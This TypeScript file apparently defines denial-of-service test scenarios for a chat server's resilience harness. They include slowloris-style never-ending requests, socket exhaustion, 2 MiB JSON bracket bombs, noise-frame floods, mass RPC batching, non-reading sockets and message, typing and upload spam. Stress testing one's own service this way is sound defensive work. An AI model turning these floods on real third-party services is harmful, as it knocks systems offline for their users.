import { randomBytes, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { ATTACKER_ADDRESS, callsFrame, flood, frameFlood, http, openSocket, openTcp, type Target } from './tools.ts';

/** One way to do harm; goes on until its process ends. */
type Attack = (target: Target) => Promise<unknown>;

const random = (length: number): string => randomBytes(length).toString('base64url');
const JSON_TYPE = { 'content-type': 'application/json' };

const credentials = (target: Target): Record<string, string> => ({
  ...JSON_TYPE,
  'x-seal-app-key': target.appKey,
  authorization: `Bearer ${target.accessToken}`,
});

const key = (length: number): object => ({ keyId: 7, publicKey: random(length), signature: random(64) });

/** What an attack takes of this machine, and nothing of the server: as much as it can, from and to itself. */
export const ITSELF = 'nobody: as busy a process, that is its own target';

async function attackItself(): Promise<unknown> {
  const server = createServer((socket) => socket.on('error', () => undefined).resume());
  await new Promise<void>((resolve) => server.listen(0, ATTACKER_ADDRESS, resolve));
  const { port } = server.address() as AddressInfo;
  const here = { url: `http://${ATTACKER_ADDRESS}:${port}` } as Target;
  const bytes = randomBytes(4_096);
  return flood(50, async () => {
    const socket = await openTcp(here);
    for (let i = 0; i < 50; i++) {
      if (!socket.write(bytes)) await once(socket, 'drain');
      await sleep(0);
    }
    socket.resetAndDestroy();
  });
}

/** Of strangers, who have no more than the key on a page. */
const OF_STRANGERS = {
  'upgrades elsewhere that are reset': (target) =>
    flood(50, async () => {
      const socket = await openTcp(target);
      socket.write('GET /other HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n');
      await sleep(1);
      socket.resetAndDestroy();
    }),
  '3,000 idle sockets of one address': async (target) => {
    for (;;) {
      await Promise.all(Array.from({ length: 100 }, () => openSocket(target, false).catch(() => null)));
      await sleep(100);
    }
  },
  '2,000 requests that never end': async (target) => {
    const sockets = await Promise.all(Array.from({ length: 2_000 }, () => openTcp(target).catch(() => null)));
    for (const socket of sockets) socket?.write('POST /trpc/auth.signIn HTTP/1.1\r\nHost: x\r\n');
    for (let i = 0; ; i++) {
      await sleep(1_000);
      for (const socket of sockets) if (socket?.writable) socket.write(`X-${i}: ${i}\r\n`);
    }
  },
  'keys of no tenant, 100 connections': (target) =>
    flood(100, () =>
      http(target, '/trpc/auth.challenge', {
        method: 'POST',
        body: '{}',
        headers: { ...JSON_TYPE, 'x-seal-app-key': `pk_${random(12)}` },
      }),
    ),
  'challenges, 100 connections': (target) =>
    flood(100, () =>
      http(target, '/trpc/auth.challenge', {
        method: 'POST',
        body: '{}',
        headers: { ...JSON_TYPE, 'x-seal-app-key': target.appKey },
      }),
    ),
  'refreshes with tokens of nobody': (target) =>
    flood(50, () =>
      http(target, '/trpc/auth.refresh', {
        method: 'POST',
        body: JSON.stringify({ refreshToken: random(32) }),
        headers: { ...JSON_TYPE, 'x-seal-app-key': target.appKey },
      }),
    ),
  'readiness, 200 connections': (target) => flood(200, () => http(target, '/readyz')),
  'what the demo stores, 50 connections': (target) =>
    flood(50, () => http(target, `/demo/stored?conversation=${target.dm}`)),
  'the widget, 100 connections': (target) => flood(100, () => http(target, '/v1/seal-chat.js')),
  'device lists of 100 people, 220 calls a frame': (target) => {
    const users = Array.from({ length: 100 }, () => ({ userId: target.userId, since: 0 }));
    const frame = callsFrame(20, 'devices.lists', { users });
    return Promise.all(Array.from({ length: 4 }, () => frameFlood(target, false, () => frame, 11)));
  },
  'JSON of 2 MiB of "[" over HTTP': (target) => {
    const body = '['.repeat(2_000_000);
    return flood(8, () => http(target, '/trpc/auth.signIn', { method: 'POST', body, headers: credentials(target) }));
  },
  'frames of noise': (target) => {
    const frame = randomBytes(60_000);
    return Promise.all(Array.from({ length: 4 }, () => frameFlood(target, false, () => frame, 4)));
  },
} satisfies Record<string, Attack>;

/** Of guests, who have an account as anybody may have one. */
const OF_GUESTS = {
  'frames of 1,000 reads of a large group, and gone': (target) =>
    flood(4, async () => {
      const socket = await openSocket(target, true);
      socket.send(callsFrame(1_000, 'channels.group', { conversationId: target.channel }));
      await sleep(200);
      socket.terminate();
    }),
  'three who ask and do not read': (target) =>
    flood(3, async () => {
      const socket = await openSocket(target, true);
      const { _socket: stream } = socket as unknown as { readonly _socket: { pause(): void } };
      stream.pause();
      const frame = callsFrame(100, 'channels.group', { conversationId: target.channel });
      while (socket.readyState === socket.OPEN) {
        socket.send(frame);
        socket.pong();
        await sleep(100);
      }
    }),
  'frames of 2 MiB of "["': (target) => {
    const frame = '['.repeat(2_000_000);
    return Promise.all(Array.from({ length: 4 }, () => frameFlood(target, true, () => frame)));
  },
  '10,000 subscriptions on a socket': (target) =>
    flood(1, async () => {
      const socket = await openSocket(target, true);
      for (let i = 0; i < 10; i++) {
        socket.send(callsFrame(1_000, 'sync.subscribe', { lastEventId: null }, 'subscription'));
      }
      await sleep(2_000);
      socket.terminate();
    }),
  'pages of history, 1,000 a frame': (target) => {
    const frame = callsFrame(1_000, 'messages.history', { conversationId: target.dm, before: null, limit: 100 });
    return frameFlood(target, true, () => frame);
  },
  'lists of conversations, 1,000 a frame': (target) => {
    const frame = callsFrame(1_000, 'conversations.list', { after: null, limit: 50 });
    return frameFlood(target, true, () => frame);
  },
  'messages without pause': (target) => {
    const frame = (): string =>
      callsFrame(
        1,
        'messages.send',
        {
          conversationId: target.dm,
          messageId: randomUUID(),
          deviceLists: [target.userId, target.peer.userId].map((userId) => ({ userId, version: 1 })),
          body: random(700),
          envelopes: [{ deviceId: target.peer.deviceId, envelope: random(200) }],
        },
        'mutation',
      );
    return Promise.all(Array.from({ length: 4 }, () => frameFlood(target, true, frame, 50)));
  },
  'typing and presence without pause': (target) => {
    const frame = callsFrame(500, 'sync.typing', { conversationId: target.dm, isTyping: true }, 'mutation');
    return frameFlood(target, true, () => frame);
  },
  'prekeys with 100 signatures each': (target) => {
    const frame = callsFrame(
      1,
      'preKeys.publish',
      {
        signedPreKey: key(32),
        lastResortKemPreKey: key(1_184),
        oneTimePreKeys: Array.from({ length: 100 }, (_, i) => ({ ...key(32), keyId: i + 1 })),
        oneTimeKemPreKeys: [],
        replaceStock: true,
      },
      'mutation',
    );
    return frameFlood(target, true, () => frame, 4);
  },
  'files of 25 MB': (target) =>
    flood(8, async () => {
      const attachmentId = randomUUID();
      const socket = await openSocket(target, true);
      socket.send(
        callsFrame(1, 'attachments.create', { attachmentId, conversationId: target.dm, size: 25_000_000 }, 'mutation'),
      );
      await sleep(50);
      const body = randomBytes(1_048_832);
      for (let part = 0; part < 23; part++) {
        await http(target, `/v1/attachments/${attachmentId}/${part}`, {
          method: 'PUT',
          body,
          headers: uploadHeaders(target),
        });
      }
      socket.terminate();
    }),
} satisfies Record<string, Attack>;

function uploadHeaders(target: Target): Record<string, string> {
  return { ...credentials(target), 'content-type': 'application/octet-stream' };
}

export const ATTACKS: Readonly<Record<string, Attack>> = { [ITSELF]: attackItself, ...OF_STRANGERS, ...OF_GUESTS };
